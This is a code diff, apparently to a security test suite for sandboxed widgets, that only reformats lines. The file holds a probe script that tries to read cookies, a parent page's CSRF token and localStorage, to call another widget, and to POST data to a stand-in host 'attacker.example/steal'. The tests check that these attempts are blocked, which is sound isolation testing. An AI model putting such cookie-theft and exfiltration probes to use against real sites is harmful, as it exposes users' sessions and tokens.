@@ -111,7 +111,8 @@ SECRET_HTML = """\
   <button id="error-btn" class="contrast">Fail</button>
   <button id="blocking-btn" class="outline">Blocking call</button>
 </div>
-<p id="greeting"></p><p id="length"></p><p id="echo"></p><p id="client-secret"></p><p id="error"></p>
+<p id="greeting"></p><p id="length"></p><p id="echo"></p><p id="client-secret"></p>
+<p id="error"></p>
 <p id="blocking"></p>
 """
 
@@ -144,7 +145,10 @@ def read_home_page_with_cookies():
 
 
 attempt("document.cookie", lambda: document.cookie)
-attempt("parent page's CSRF token", lambda: window.parent.document.querySelector("meta[name=csrf-token]").content)
+attempt(
+    "parent page's CSRF token",
+    lambda: window.parent.document.querySelector("meta[name=csrf-token]").content,
+)
 attempt("top page's cookie", lambda: window.top.document.cookie)
 attempt("localStorage", lambda: window.localStorage.getItem("anything"))
 attempt("GET / with cookies (XHR)", read_home_page_with_cookies)
@@ -155,7 +159,8 @@ requests = [
      {{"method": "POST", "credentials": "include", "mode": "no-cors"}}),
     ("call another widget's functions", f"/widgets/{{TARGET}}/call/anything",
      {{"method": "POST", "body": "{{}}"}}),
-    ("send data off-site", "https://attacker.example/steal", {{"method": "POST", "mode": "no-cors"}}),
+    ("send data off-site", "https://attacker.example/steal",
+     {{"method": "POST", "mode": "no-cors"}}),
 ]
 for name, url, options in requests:
     try:
@@ -344,7 +349,8 @@ def test_frame_url_opened_directly_is_still_an_opaque_origin(app, page):
     page.goto(f"/widgets/{widget_id}/frame")  # no need to wait for Python: the origin is set now
     probe = page.evaluate("""() => {
         let cookie;
-        try { cookie = "got: " + document.cookie; } catch (error) { cookie = "blocked: " + error.name; }
+        try { cookie = "got: " + document.cookie; }
+        catch (error) { cookie = "blocked: " + error.name; }
         return {origin: self.origin, cookie: cookie};
     }""")
     assert probe == {"origin": "null", "cookie": "blocked: SecurityError"}
